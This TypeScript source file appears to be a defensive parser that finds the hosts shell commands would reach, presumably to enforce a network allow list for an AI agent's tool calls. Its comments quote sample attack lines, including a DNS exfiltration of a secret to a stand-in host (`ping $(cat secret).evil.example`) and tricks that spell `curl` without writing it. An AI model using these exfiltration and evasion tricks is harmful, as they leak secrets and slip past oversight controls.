import { reachedHost, remoteHost } from '../../core/brain/hosts.ts';
import { invocationOf, invocationsOf, readCommands, type Invocation, type Word } from '../../core/brain/shell-words.ts';
import { DESTINATIONS, NETWORK_WRAPPERS, POWERSHELL_SWITCHES, type Grammar } from './network-programs.ts';

/**
 * The hosts network commands in a text reach without a scheme (`curl evil.example/x`,
 * `ssh user@evil.example`, `git clone evil.example:repo`), read as a shell splits the text:
 * quoted or escaped, behind `sudo`, `env` or `timeout`, in a script given to `bash -c` or
 * `ssh host`. Only a network program's destinations are read, never a name in other text, so
 * no file name (`notes.md`, `setup.py`) becomes a host. A destination the reader cannot name (an
 * expansion `curl $HOST`, a list read from a file or from input) is reported as unread.
 */

/** Where the hosts read go. */
export interface HostSink {
  /** A host as WHATWG's URL parser normalises it, without a final dot. */
  add(host: string): void;
  /** Some destination was not read. */
  unread(): void;
}

/**
 * Nested scripts (`bash -c "ssh host 'curl …'"`) and wrappers are read this deep; a deeper one
 * naming a network program is unread.
 */
const MAX_DEPTH = 4;

/** A network program named in a text, quotes and escapes aside: only such a text is read as commands. */
const NETWORK_WORD = new RegExp(`(?<![\\w.-])(?:${[...DESTINATIONS.keys()].join('|')})(?![\\w-])`, 'i');
const QUOTING = /['"\\]/g;
/** An assignment, where a command starts or after a word: read with an expansion, it may name a program. */
const ASSIGNED = /(?:^|[\s;&|(])[A-Za-z_][A-Za-z0-9_]*=/;
/** A word a shell would split again if it ran it: a script given to `bash -c`, `ssh host` or `eval`. */
const SCRIPT_LIKE = /[\s;&|`$(<>]/;
const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*=/;
/** A command substitution right after a command's last word. */
const SUBSTITUTION_NEXT = /[ \t]*(?:\$\(|`)/y;
/** A host no parser needs more to name: an expansion (`$HOST`, `` `cat h` ``) is not read here. */
const EXPANSION = /[$`]/;

/** Reads the network commands of `text` (a tool's argument), reporting the hosts they reach to `sink`. */
export function commandHosts(text: string, sink: HostSink): void {
  readScript(text, sink, 0);
}

/**
 * The text may spell a network program's name without writing it: with ANSI-C quoting
 * (`$'\x63url'`), or as variables it assigns (`A=cu; B=rl; $A$B`). Such a text is read as commands too.
 */
function spellsName(text: string): boolean {
  return text.includes("$'") || (text.includes('$') && ASSIGNED.test(text));
}

function readScript(text: string, sink: HostSink, depth: number): void {
  if (!NETWORK_WORD.test(text) && !NETWORK_WORD.test(text.replace(QUOTING, '')) && !spellsName(text)) return;
  if (depth > MAX_DEPTH) {
    sink.unread();
    return;
  }
  const { commands } = readCommands(text);
  for (const command of commands)
    for (const { value } of command.words) {
      const script = ASSIGNMENT.test(value) ? value.slice(value.indexOf('=') + 1) : value;
      if (SCRIPT_LIKE.test(script)) readScript(script, sink, depth + 1);
    }
  for (const inv of invocationsOf(commands)) {
    // `ping $(cat secret).evil.example`: the reader ends a command where a substitution starts,
    // so what follows it (the rest of the destination) is not among the command's words.
    const last = inv.command.words.at(-1) as Word;
    SUBSTITUTION_NEXT.lastIndex = last.end;
    readInvocation(inv, sink, depth, SUBSTITUTION_NEXT.test(text));
  }
}

function readInvocation(inv: Invocation, sink: HostSink, depth: number, cut = false): void {
  // `$HOST_TOOL evil.example`: a program the text does not name may be a network one.
  if (inv.hiddenProgram) {
    sink.unread();
    return;
  }
  const wrapperValued = NETWORK_WRAPPERS.get(inv.program);
  if (wrapperValued !== undefined) {
    const wrapped = invocationOf({ ...inv.command, words: afterOptions(inv.args, wrapperValued) });
    if (wrapped === null) return;
    // A wrapper's program is read as a script nested in it: a chain of them ends as deep scripts do.
    if (depth >= MAX_DEPTH) sink.unread();
    else readInvocation({ ...wrapped, wrappers: [...inv.wrappers, ...wrapped.wrappers] }, sink, depth + 1, cut);
    return;
  }
  const grammar = DESTINATIONS.get(inv.program);
  if (grammar === undefined) return;
  // `echo host | xargs curl`: its destinations come from its input.
  if (cut || (inv.wrappers.includes('xargs') && inv.command.pipeIn)) sink.unread();
  readArguments(inv, grammar, sink, depth);
}

/** The words after a wrapper's own options. */
function afterOptions(args: readonly Word[], valued: string): Word[] {
  let i = 0;
  while (i < args.length && (args[i] as Word).value.startsWith('-')) {
    const option = (args[i] as Word).value;
    i += option.length === 2 && valued.includes(option.charAt(1)) ? 2 : 1;
  }
  return args.slice(i);
}

function readArguments(inv: Invocation, grammar: Grammar, sink: HostSink, depth: number): void {
  const { args } = inv;
  let operands = 0;
  let optionsEnd = false;
  for (let i = 0; i < args.length; i++) {
    const word = (args[i] as Word).value;
    if (!optionsEnd && word === '--') {
      optionsEnd = true;
      continue;
    }
    if (!optionsEnd && word.length > 1 && word.startsWith('-')) {
      const option = readOption(grammar, word, args[i + 1]?.value);
      if (option.takesNext) i++;
      if (option.value === undefined) continue;
      if (option.kind === 'host') hostsInValue(option.value, sink, true);
      else if (option.kind === 'file') sink.unread();
      else if (option.kind === 'ssh') sshOption(option.value, sink, depth);
      continue;
    }
    operands++;
    switch (grammar.operands) {
      case 'every':
        operandHost(word, sink, grammar.dottedOnly !== true);
        break;
      case 'first':
        if (operands > 1) break;
        operandHost(word, sink, grammar.dottedOnly !== true);
        if (grammar.remoteCommand === true && i + 1 < args.length) {
          const remote = invocationOf({ words: args.slice(i + 1), pipeIn: false, pipeOut: false });
          if (remote === null) return;
          if (depth >= MAX_DEPTH) sink.unread();
          else readInvocation(remote, sink, depth + 1);
          return;
        }
        break;
      case 'remote': {
        const host = remoteHost(word);
        if (host !== undefined) candidate(host, sink, grammar.dottedOnly !== true);
        break;
      }
      case 'address':
        addressHost(word, sink);
        break;
    }
  }
}

interface Option {
  readonly kind: 'host' | 'file' | 'ssh' | 'other';
  readonly value: string | undefined;
  /** Its value is the next word. */
  readonly takesNext: boolean;
}

/** An option word: what its value names, and where the value is. */
function readOption(grammar: Grammar, word: string, next: string | undefined): Option {
  const kindOf = (name: string): Option['kind'] =>
    grammar.hostOptions?.includes(name) === true
      ? 'host'
      : grammar.fileOptions?.includes(name) === true
        ? 'file'
        : grammar.sshOptions === true && name === '-o'
          ? 'ssh'
          : 'other';
  if (grammar.powershell === true) {
    const name = word.toLowerCase();
    if (POWERSHELL_SWITCHES.has(name)) return { kind: 'other', value: undefined, takesNext: false };
    const colon = name.indexOf(':');
    if (colon > 0) return { kind: kindOf(name.slice(0, colon)), value: word.slice(colon + 1), takesNext: false };
    return { kind: kindOf(name), value: next, takesNext: true };
  }
  if (word.startsWith('--')) {
    const eq = word.indexOf('=');
    const name = eq < 0 ? word : word.slice(0, eq);
    const kind = kindOf(name);
    if (eq >= 0) return { kind, value: word.slice(eq + 1), takesNext: false };
    const valued = kind !== 'other' || grammar.valuedLong?.has(name.slice(2)) === true;
    return { kind, value: valued ? next : undefined, takesNext: valued };
  }
  // A cluster of short options (`-sSLo out`): the first that takes a value takes the rest of the word, or the next one.
  for (let c = 1; c < word.length; c++) {
    const name = `-${word.charAt(c)}`;
    const kind = kindOf(name);
    if (kind === 'other' && !grammar.valued.includes(word.charAt(c))) continue;
    const rest = word.slice(c + 1);
    return rest === '' ? { kind, value: next, takesNext: true } : { kind, value: rest, takesNext: false };
  }
  return { kind: 'other', value: undefined, takesNext: false };
}

/** `-o ProxyJump=a,b`, `-o HostName=x`, `-o "ProxyCommand=nc x 22"`: where ssh connects instead. */
function sshOption(value: string, sink: HostSink, depth: number): void {
  const option = /^\s*(proxyjump|hostname|proxycommand)\s*[=\s]\s*(.*)$/is.exec(value);
  if (option === null) return;
  const [, key = '', setting = ''] = option;
  if (key.toLowerCase() === 'proxycommand') readScript(setting, sink, depth + 1);
  else hostsInValue(setting, sink, true);
}

/** A URL, read as URLs are wherever they are (`hostsOf`), not as an operand. */
const SCHEME = /^[a-z][a-z0-9+.-]*:[/\\]/i;
/** Where a word shows it names a place: a path, a port, a user (`metadata/v1`, `intranet:8080`, `me@bastion`). */
const PLACE = /[/:@]/;

/**
 * A host without a scheme (`evil.example/x`, `user@evil.example:8080`, `@1.1.1.1` for dig). A
 * one-label name counts (`oneLabel`) where the word names a place: prose after a network word
 * (`ping me when done`) has no such word.
 */
function operandHost(word: string, sink: HostSink, oneLabel: boolean): void {
  if (SCHEME.test(word)) return;
  const authority = word.split(/[/?#]/, 1)[0] as string;
  const server = authority.slice(authority.lastIndexOf('@') + 1);
  candidate(
    server.startsWith('[') ? server.slice(0, server.indexOf(']') + 1) : (server.split(':', 1)[0] as string),
    sink,
    oneLabel && PLACE.test(word),
  );
}

/** A proxy, a jump host list or a redirection (`user@jump:22,other`, `::evil.example:443`): every host-like piece. */
function hostsInValue(value: string, sink: HostSink, oneLabel: boolean): void {
  for (const part of value.split(','))
    for (const piece of part.match(/\[[^\]]*\]|[^:[\]]+/g) ?? []) {
      const server = piece.slice(piece.lastIndexOf('@') + 1);
      candidate(server.replace(/^\/+/, '').split('/', 1)[0] as string, sink, oneLabel);
    }
}

/** socat's address types that connect somewhere. */
const CONNECTING_ADDRESS =
  /^(?:tcp[46]?(?:-connect)?|udp[46]?(?:-connect|-sendto)?|sctp[46]?(?:-connect)?|openssl(?:-connect)?|ssl|socks[45]a?|proxy(?:-connect)?)$/i;

/** A socat address that connects (`TCP:host:port`, `OPENSSL:host:port`, `SOCKS4A:proxy:host:port`). */
function addressHost(word: string, sink: HostSink): void {
  const [type = '', ...rest] = word.split(':');
  if (!CONNECTING_ADDRESS.test(type)) return;
  for (const piece of rest) candidate(piece.split(',', 1)[0] as string, sink, true);
}

const IPV4 = /^\d+\.\d+\.\d+\.\d+$/;
const NAME = /^(?:[a-z0-9_-]+\.)+(?:[a-z]{2,}|xn--[a-z0-9-]+)$/;
/** One label holding a letter: `metadata`, `bastion`; `80` is a port. */
const LABEL = /^(?=[a-z0-9_-]*[a-z])[a-z0-9_-]+$/;
/** 1.0.0.0: a single number this large names an address (`curl 2130706433`); a port or a count is smaller. */
const LOWEST_NUMBERED_ADDRESS = 2 ** 24;

/**
 * A piece read where a host goes, kept when it names one, as a URL parser reaches it: a name with
 * a dot and a top-level label of letters, an address, `localhost`, and (`oneLabel`) a name of one
 * label holding a letter (`curl metadata/…`, `ssh bastion`): it resolves inside the network, which
 * is where an allow list matters most. A port or a count is no host.
 */
function candidate(piece: string, sink: HostSink, oneLabel: boolean): void {
  if (piece === '') return;
  if (EXPANSION.test(piece)) {
    sink.unread();
    return;
  }
  const host = reachedHost(piece)?.replace(/\.$/, '');
  if (host === undefined) return;
  const address = IPV4.test(host) && (piece.includes('.') || Number(piece) >= LOWEST_NUMBERED_ADDRESS);
  if (address || host.startsWith('[') || host === 'localhost' || NAME.test(host) || (oneLabel && LABEL.test(host)))
    sink.add(host);
}
